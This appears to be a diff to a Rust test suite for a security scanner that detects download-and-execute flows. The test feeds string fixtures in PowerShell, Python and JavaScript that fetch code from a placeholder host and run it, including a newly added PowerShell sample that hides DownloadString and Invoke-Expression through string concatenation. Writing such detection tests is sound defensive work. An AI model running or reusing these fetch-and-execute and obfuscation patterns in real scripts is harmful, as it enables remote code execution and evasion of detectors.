@@ -612,8 +612,10 @@ fn downloaded_code_that_reaches_a_runner_is_a_download_exec_flow() {
               \x20   for hook in rules.get('hooks', []):\n        exec(compile(hook['code'], '<hook>', 'exec'), {})\n    return rules\n";
     let js =
         "const res = await fetch('https://x.invalid/p.js');\nconst body = await res.text();\nnew Function(body)();\n";
+    let ps2 = "$h = 'https://x.invalid/r.txt'\n$wc = New-Object Net.WebClient\n\
+               $body = $wc.('Down' + 'load' + 'String').Invoke($h)\n& ((Get-Command ('I' + 'nvoke-Ex' + 'pression')).Name) $body\n";
     let psiwr = "$s = Invoke-RestMethod https://x.invalid/a.ps1\n$sb = [ScriptBlock]::Create($s)\n& $sb\n";
-    for (name, code) in [("s.ps1", ps), ("s.py", py), ("s.js", js), ("t.ps1", psiwr)] {
+    for (name, code) in [("s.ps1", ps), ("u.ps1", ps2), ("s.py", py), ("s.js", js), ("t.ps1", psiwr)] {
         let out = flows(&[(name, code)]);
         assert_eq!(out.len(), 1, "{name}: {out:?}");
         assert_eq!(out[0].finding.rule, RuleId::DownloadExec, "{name}");
